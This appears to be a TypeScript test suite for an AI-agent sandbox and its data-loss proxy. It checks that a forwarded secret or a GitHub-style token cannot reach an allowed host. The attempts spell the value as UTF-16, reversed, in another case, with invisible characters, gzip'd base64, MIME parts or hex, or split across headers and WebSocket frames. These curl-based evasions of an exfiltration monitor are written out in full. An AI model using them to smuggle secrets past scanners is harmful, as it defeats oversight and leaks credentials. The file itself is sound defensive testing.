// Sandbox escape, by spelling a secret so a scanner that looks for its usual forms misses it:
// the agent holds a secret (a forwarded env value pipelock knows) and sends it to a host the
// bottle allows as UTF-16, reversed, in another case, with invisible characters between its
// letters, gzip'd inside base64, in MIME parts, as hex with separators, cut between two
// headers or two WebSocket messages. Each must be refused, and the recording stand-in must
// never see the secret in any form; bodies of the same shapes without it still go through.
import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { beforeAll, expect, it } from "vitest";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import {
  CLEAN_MESSAGE,
  curlThrough,
  notRefused,
  pipelockAddress,
  pipelockWebSocket,
  writeAgentFiles,
} from "../support/docker/escape-bottle.js";
import {
  type ExchangeOp,
  probe,
  webSocketFrame,
  webSocketUpgrade,
} from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";

// Mixed case, so that its lowercase and uppercase forms are other strings.
const SECRET = `CbSpell-${randomBytes(6).toString("hex").toUpperCase()}-${randomBytes(6).toString("hex")}`;
const CLEAN = `NotASecret-${"0123456789AB"}-${"abcdef012345"}`;
const ALLOWED = "allowed.example.test";
const HALF = Math.floor(SECRET.length / 2);
const REVERSED = [...SECRET].reverse().join("");
const HEX = [...Buffer.from(SECRET)].map((b) => b.toString(16).padStart(2, "0"));

/** A GitHub token of the right shape, made up per run: a credential the bottle never declared. */
const TOKEN = `ghp_${[...randomBytes(36)].map((b) => "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"[b % 62]).join("")}`;

/** The secret with every character but its letters and digits removed, lowercased. */
const squeeze = (text: string) => text.toLowerCase().replace(/[^a-z0-9]/g, "");

/**
 * What the stand-in must never receive: every form the value can be read back from, compared
 * after dropping everything but letters and digits (which undoes case, invisible characters,
 * UTF-16's NULs and hex separators).
 */
function leakedForms(received: string): string[] {
  const squeezed = squeeze(received);
  const forms = {
    value: squeeze(SECRET),
    reversed: squeeze([...SECRET].reverse().join("")),
    hex: HEX.join(""),
    base64: squeeze(Buffer.from(SECRET).toString("base64").slice(0, -4)),
  };
  return Object.entries(forms)
    .filter(([, form]) => squeezed.includes(form))
    .map(([name]) => name);
}

/** Bytes of each body, made on the host and written into the agent's /tmp/spell. */
function bodies(value: string): Record<string, Buffer> {
  const interleave = (sep: string) => Buffer.from([...value].join(sep), "utf8");
  const long = `${"line of text ".repeat(6)}${value} and more text after it`;
  const wrap76 = (text: string) => text.replace(/.{1,76}/g, "$&\r\n");
  const qp = `${long.slice(0, 70)}=\r\n${long.slice(70)}`.replace(/-/g, "=2D");
  const part = (cte: string, text: string) =>
    Buffer.from(
      [
        "--SpellBoundary",
        'Content-Disposition: form-data; name="file"; filename="notes.txt"',
        "Content-Type: text/plain",
        `Content-Transfer-Encoding: ${cte}`,
        "",
        text,
        "--SpellBoundary--",
        "",
      ].join("\r\n"),
    );
  const utf16Escapes = [...Buffer.from(value, "utf16le")]
    .map((b) => `\\u${b.toString(16).padStart(4, "0")}`)
    .join("");
  return {
    utf16le: Buffer.from(`note: ${value}\n`, "utf16le"),
    utf16be: Buffer.from(`note: ${value}\n`, "utf16le").swap16(),
    "zero-width": interleave("\u200b"),
    "soft-hyphen": interleave("\u00ad"),
    "zwj-bom": interleave("\u200d\ufeff"),
    "gzip-base64": Buffer.from(gzipSync(Buffer.from(`{"log":"${value}"}`)).toString("base64")),
    "mime-base64": part("base64", wrap76(Buffer.from(long).toString("base64"))),
    "mime-qp": part("quoted-printable", qp),
    "json-utf16": Buffer.from(`{"data":"${utf16Escapes}"}`),
    "base64-base64": Buffer.from(
      Buffer.from(`k=${Buffer.from(`v=${value}`).toString("base64")}`).toString("base64"),
    ),
    "gzip-raw": gzipSync(Buffer.from(`note: ${value}`)),
  };
}

/** base64 of gzip of base64 of gzip ..., `depth` times over. */
function nest(bytes: Buffer, depth: number): Buffer {
  let out = bytes;
  for (let i = 0; i < depth; i++) out = Buffer.from(gzipSync(out).toString("base64"));
  return out;
}

describeWithEngine("escape: spelling a secret so the scanner misses it", () => {
  const suite = escapeSuite();
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;

  const received = async () =>
    everythingReceived(await upstream.requests(), await upstream.frames());

  beforeAll(async () => {
    ({ bottle, upstream } = await suite.startSecretBottle("spell", SECRET, [ALLOWED]));
    // The agent writes its bodies itself; the clean ones, of the same shapes, beside them.
    const files: [string, Buffer][] = [
      ...Object.entries(bodies(SECRET)),
      ...Object.entries(bodies(CLEAN)).map(([name, bytes]): [string, Buffer] => [
        `clean-${name}`,
        bytes,
      ]),
    ];
    // Beside them: a credential the bottle never declared, spelled three ways, and the secret
    // nested deeper than the scanner reads (refused as unscannable, never passed unread).
    const extraFiles = {
      "token-zero-width": Buffer.from([...TOKEN].join("\u200c"), "utf8"),
      "token-utf16le": Buffer.from(`token=${TOKEN}`, "utf16le"),
      "token-mime": Buffer.from(
        `--TB\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(`t=${TOKEN}`).toString("base64")}\r\n--TB--\r\n`,
      ),
      "nested-5": nest(Buffer.from(`note: ${SECRET}`), 5),
    };
    files.push(...Object.entries(extraFiles));
    await writeAgentFiles(bottle, "/tmp/spell", files);
  });

  it("holds the secret, and sends bodies of the same shapes without it (the controls)", async () => {
    expect((await bottle.exec('printf %s "$AGENT_SECRET"')).stdout).toBe(SECRET);
    const refused: string[] = [];
    const names = Object.keys(bodies(CLEAN));
    for (const name of names) {
      const type = name.startsWith("mime")
        ? "multipart/form-data; boundary=SpellBoundary"
        : name.startsWith("json")
          ? "application/json"
          : "application/octet-stream";
      const r = await curlThrough(bottle, `https://${ALLOWED}/control/${name}`, {
        args: `-H 'Content-Type: ${type}' --data-binary @/tmp/spell/clean-${name}`,
      });
      if (r.http !== 200) refused.push(`${name}: ${r.connect} ${r.http}`);
    }
    const half = CLEAN.length / 2;
    const headers = await curlThrough(bottle, `https://${ALLOWED}/control/headers`, {
      args: `-H 'X-Part-A: ${CLEAN.slice(0, half)}' -H 'X-Part-B: ${CLEAN.slice(half)}'`,
    });
    if (headers.http !== 200) refused.push(`headers: ${headers.http}`);
    expect(refused).toEqual([]);
    const controls = (await upstream.requests()).filter((r) => r.url.startsWith("/control/"));
    expect(controls).toHaveLength(names.length + 1);
  });

  it("blocks the secret in UTF-16, reversed, in another case, and with invisible characters", async () => {
    // Threat: a reader sees the secret; a byte scanner sees NULs, other letters, or none.
    const base = `https://${ALLOWED}/escape`;
    const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
    const passed = await notRefused(bottle, [
      { name: "UTF-16LE body", url: `${base}/utf16le`, args: file("utf16le") },
      { name: "UTF-16BE body", url: `${base}/utf16be`, args: file("utf16be") },
      {
        name: "UTF-16 as JSON \\u escapes",
        url: `${base}/json-utf16`,
        args: `-H 'Content-Type: application/json' ${file("json-utf16")}`,
      },
      {
        name: "reversed body",
        url: `${base}/reversed`,
        args: `--data-binary 'x=${REVERSED}'`,
      },
      {
        name: "reversed in the query",
        url: `${base}/reversed-query?q=${REVERSED}`,
      },
      {
        name: "lowercase",
        url: `${base}/lower`,
        args: `--data-binary "$(printf %s "$AGENT_SECRET" | tr A-Z a-z)"`,
      },
      {
        name: "uppercase, in a header",
        url: `${base}/upper`,
        args: `-H "X-Note: $(printf %s "$AGENT_SECRET" | tr a-z A-Z)"`,
      },
      { name: "zero-width spaces", url: `${base}/zero-width`, args: file("zero-width") },
      { name: "soft hyphens", url: `${base}/soft-hyphen`, args: file("soft-hyphen") },
      { name: "joiners and BOMs", url: `${base}/zwj-bom`, args: file("zwj-bom") },
      {
        name: "zero-width spaces, percent-encoded in the query",
        url: `${base}/zw-query?q=${[...SECRET].map(encodeURIComponent).join("%E2%80%8B")}`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(leakedForms(await received())).toEqual([]);
  });

  it("blocks the secret gzip'd, in MIME parts, nested in base64 and as separated hex", async () => {
    // Threat: an encoding the receiver undoes that the scanner does not look into.
    const base = `https://${ALLOWED}/escape`;
    const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
    const multipart = "-H 'Content-Type: multipart/form-data; boundary=SpellBoundary'";
    const passed = await notRefused(bottle, [
      { name: "base64 of gzip", url: `${base}/gzip-base64`, args: file("gzip-base64") },
      {
        name: "gzip without Content-Encoding",
        url: `${base}/gzip-raw`,
        args: `-H 'Content-Type: application/octet-stream' ${file("gzip-raw")}`,
      },
      {
        name: "MIME base64 at 76 columns",
        url: `${base}/mime-base64`,
        args: `${multipart} ${file("mime-base64")}`,
      },
      {
        name: "MIME quoted-printable",
        url: `${base}/mime-qp`,
        args: `${multipart} ${file("mime-qp")}`,
      },
      {
        name: "MIME base64 under a Content-Type that lies",
        url: `${base}/mime-lying`,
        args: `-H 'Content-Type: text/plain' ${file("mime-base64")}`,
      },
      { name: "base64 of base64", url: `${base}/b64b64`, args: file("base64-base64") },
      {
        name: "base64 of gzip, 5 deep (past the nesting bound)",
        url: `${base}/nested-5`,
        args: file("nested-5"),
      },
      { name: "hex with ':'", url: `${base}/hex-colon`, args: `--data-binary '${HEX.join(":")}'` },
      {
        name: "hex as \\x",
        url: `${base}/hex-x`,
        args: `--data-binary '${HEX.map((h) => `\\x${h}`).join("")}'`,
      },
      {
        name: "hex with spaces, in a header",
        url: `${base}/hex-space`,
        args: `-H 'X-Dump: ${HEX.join(" ")}'`,
      },
      {
        name: "hex as 0x.., uppercase",
        url: `${base}/hex-0x`,
        args: `--data-binary '${HEX.map((h) => `0X${h.toUpperCase()}`).join(",")}'`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(leakedForms(await received())).toEqual([]);
  });

  it("blocks an undeclared credential behind invisible characters, UTF-16 or a MIME part", async () => {
    // Threat: a token the agent found somewhere, spelled so its pattern does not match.
    const base = `https://${ALLOWED}/escape`;
    const file = (name: string) => `--data-binary @/tmp/spell/${name}`;
    const passed = await notRefused(bottle, [
      { name: "zero-width non-joiners", url: `${base}/token-zw`, args: file("token-zero-width") },
      { name: "UTF-16LE", url: `${base}/token-utf16`, args: file("token-utf16le") },
      { name: "MIME base64 part", url: `${base}/token-mime`, args: file("token-mime") },
      {
        name: "halves in two headers",
        url: `${base}/token-halves`,
        args: `-H 'X-A: ${TOKEN.slice(0, 20)}' -H 'X-B: ${TOKEN.slice(20)}'`,
      },
    ]);
    expect(passed).toEqual([]);
    const all = await received();
    expect(all.includes(TOKEN.slice(4))).toBe(false);
    expect(squeeze(all).includes(squeeze(TOKEN))).toBe(false);
  });

  it("blocks the secret cut between two headers, adjacent or apart, in either order", async () => {
    // Threat: no single header holds the secret; the receiver joins them.
    const base = `https://${ALLOWED}/escape`;
    const a = `"$(printf %s "$AGENT_SECRET" | cut -c1-${HALF})"`;
    const b = `"$(printf %s "$AGENT_SECRET" | cut -c${HALF + 1}-)"`;
    const passed = await notRefused(bottle, [
      { name: "adjacent", url: `${base}/halves`, args: `-H "X-Part-A: "${a} -H "X-Part-B: "${b}` },
      {
        name: "reversed order, a header between",
        url: `${base}/halves-apart`,
        args: `-H "X-Part-B: "${b} -H 'X-Other: 1' -H "X-Part-A: note "${a}`,
      },
      {
        name: "header and cookie",
        url: `${base}/halves-cookie`,
        args: `-H "X-Part-A: "${a} -H "Cookie: "${b}`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(leakedForms(await received())).toEqual([]);
  });

  it("blocks the secret cut between two WebSocket messages, and relays clean ones", async () => {
    // Threat: each message alone is clean; the server joins them.
    const session = (target: string, frames: Buffer[]) =>
      pipelockWebSocket(bottle, ALLOWED, target, frames);
    const ops: ExchangeOp[] = [
      session("/ws-halves", [
        webSocketFrame(1, `first ${SECRET.slice(0, HALF)}`),
        webSocketFrame(1, `${SECRET.slice(HALF)} second`),
      ]),
      session("/ws-halves-binary", [
        webSocketFrame(2, Buffer.from(SECRET.slice(0, HALF))),
        webSocketFrame(2, Buffer.from(SECRET.slice(HALF))),
      ]),
      session("/ws-thirds-ping", [
        webSocketFrame(1, SECRET.slice(0, 8)),
        webSocketFrame(9, SECRET.slice(8, 16)),
        webSocketFrame(1, SECRET.slice(16)),
      ]),
      {
        kind: "exchange",
        proxy: pipelockAddress(bottle),
        send: [
          webSocketUpgrade(`http://${ALLOWED}/ws-plain-halves`, ALLOWED),
          webSocketFrame(1, CLEAN_MESSAGE),
          webSocketFrame(1, SECRET.slice(0, HALF)),
          webSocketFrame(1, SECRET.slice(HALF)),
        ],
        delayMs: 300,
        quietMs: 2500,
      },
    ];
    const results = await probe(bottle.agentContainer, ops);
    expect(results.map((r) => `${r.outcome} ${r.status}`)).toEqual(ops.map(() => "exchanged 101"));
    for (const r of results) {
      expect(r.status).toBe(101);
      expect(r.response).toContain(CLEAN_MESSAGE);
      expect(r.response).toContain("pipelock: blocked");
    }
    const frames = await upstream.frames();
    const payloads = frames.map((f) => Buffer.from(f.payload, "base64").toString("latin1"));
    expect(payloads.filter((p) => p.includes(CLEAN_MESSAGE))).toHaveLength(ops.length);
    expect(payloads.filter((p) => p.includes(SECRET.slice(HALF)))).toEqual([]);
    expect(leakedForms(await received())).toEqual([]);
  });

  it("the stand-in never received the secret, in any form, and the audit log never held it", async () => {
    const all = await received();
    expect(all.length).toBeGreaterThan(0);
    expect(leakedForms(all)).toEqual([]);
    const escapes = (await upstream.requests()).filter((r) => r.url.startsWith("/escape"));
    expect(escapes.map((r) => r.url)).toEqual([]);
    const audit = await bottle.pipelockAudit();
    expect(audit.filter((e) => e.decision === "dlp_block").length).toBeGreaterThanOrEqual(28);
    expect(audit.some((e) => e.rule === "unscannable-encoding")).toBe(true);
    expect(leakedForms(JSON.stringify(audit))).toEqual([]);
  });
});
